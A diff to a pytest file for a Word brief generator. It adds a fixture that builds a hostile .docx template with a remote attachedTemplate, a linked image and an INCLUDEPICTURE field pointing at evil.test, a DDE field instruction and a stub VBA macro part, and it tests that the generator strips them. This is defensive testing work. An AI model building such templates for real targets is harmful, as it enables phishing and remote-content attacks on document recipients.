@@ -1,10 +1,14 @@
+import zipfile
 from io import BytesIO
 from pathlib import Path
 
 import pytest
 from docx import Document
 from docx.document import Document as Word
-from docx.oxml.ns import qn
+from docx.opc.packuri import PackURI
+from docx.opc.part import Part
+from docx.oxml import parse_xml
+from docx.oxml.ns import nsdecls, qn
 
 from sinergi.brief.layout import laid_out
 from sinergi.brief.model import Brief
@@ -126,6 +130,54 @@ def test_a_template_gives_its_styles_header_and_footer(tmp_path: Path) -> None:
 
 def test_what_is_no_template_is_named(tmp_path: Path) -> None:
     path = tmp_path / "template.docx"
-    path.write_text("no")
-    with pytest.raises(InputError, match="no Word document"):
-        docx(sample(), Pictures("en"), template=path)
+    whole = BytesIO()
+    Document().save(whole)
+    for content in (b"no", b"", b"PK\x03\x04" + bytes(100), whole.getvalue()[:-400]):
+        path.write_bytes(content)
+        with pytest.raises(InputError, match="no Word document"):
+            docx(sample(), Pictures("en"), template=path)
+
+
+NAMES = nsdecls("w", "r", "a", "wp")
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def hostile_template() -> bytes:
+    """A template that leads to a server by a template, a picture, a macro and fields."""
+    made = Document()
+    header = made.sections[0].header
+    header.paragraphs[0].text = "Ministry"
+    settings = made.part._settings_part
+    outer = settings.rels.get_or_add_ext_rel(
+        f"{OFFICE}/attachedTemplate", "http://evil.test/a.dotm"
+    )
+    settings.element.append(parse_xml(f'<w:attachedTemplate {NAMES} r:id="{outer}"/>'))
+    picture = header.part.rels.get_or_add_ext_rel(f"{OFFICE}/image", "http://evil.test/b.png")
+    drawn = f'<w:drawing><wp:inline><a:blip r:link="{picture}"/></wp:inline></w:drawing>'
+    code = "".join(f"<w:instrText>{part}</w:instrText>" for part in ("DDE", "AUTO c:\\\\windows"))
+    field = '<w:fldSimple w:instr=" INCLUDEPICTURE http://evil.test/c.png "/>'
+    header._element.append(parse_xml(f"<w:p {NAMES}><w:r>{drawn}{code}</w:r>{field}</w:p>"))
+    macro = Part(PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject",
+                 b"macro", made.part.package)  # fmt: skip
+    made.part.relate_to(macro, "http://schemas.microsoft.com/office/2006/relationships/vbaProject")
+    out = BytesIO()
+    made.save(out)
+    return out.getvalue()
+
+
+def test_a_template_that_leads_elsewhere_gives_its_looks_only(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    path = tmp_path / "template.docx"
+    path.write_bytes(hostile_template())
+    before = zipfile.ZipFile(path)
+    assert b"evil" in b"".join(before.read(name) for name in before.namelist())
+    content = docx(sample(), Pictures("en"), template=path)
+    with zipfile.ZipFile(BytesIO(content)) as made:
+        everything = b"".join(made.read(name) for name in made.namelist())
+        assert not any("vba" in name.lower() for name in made.namelist())
+    for gone in (b"evil.test", b"AUTO c:", b"INCLUDEPICTURE", b"attachedTemplate"):
+        assert gone not in everything
+    assert Document(BytesIO(content)).sections[0].header.paragraphs[0].text == "Ministry"
+    for word in ("attachedTemplate", "vbaProject", "image", "INCLUDE", "DDE"):
+        assert word in caplog.text
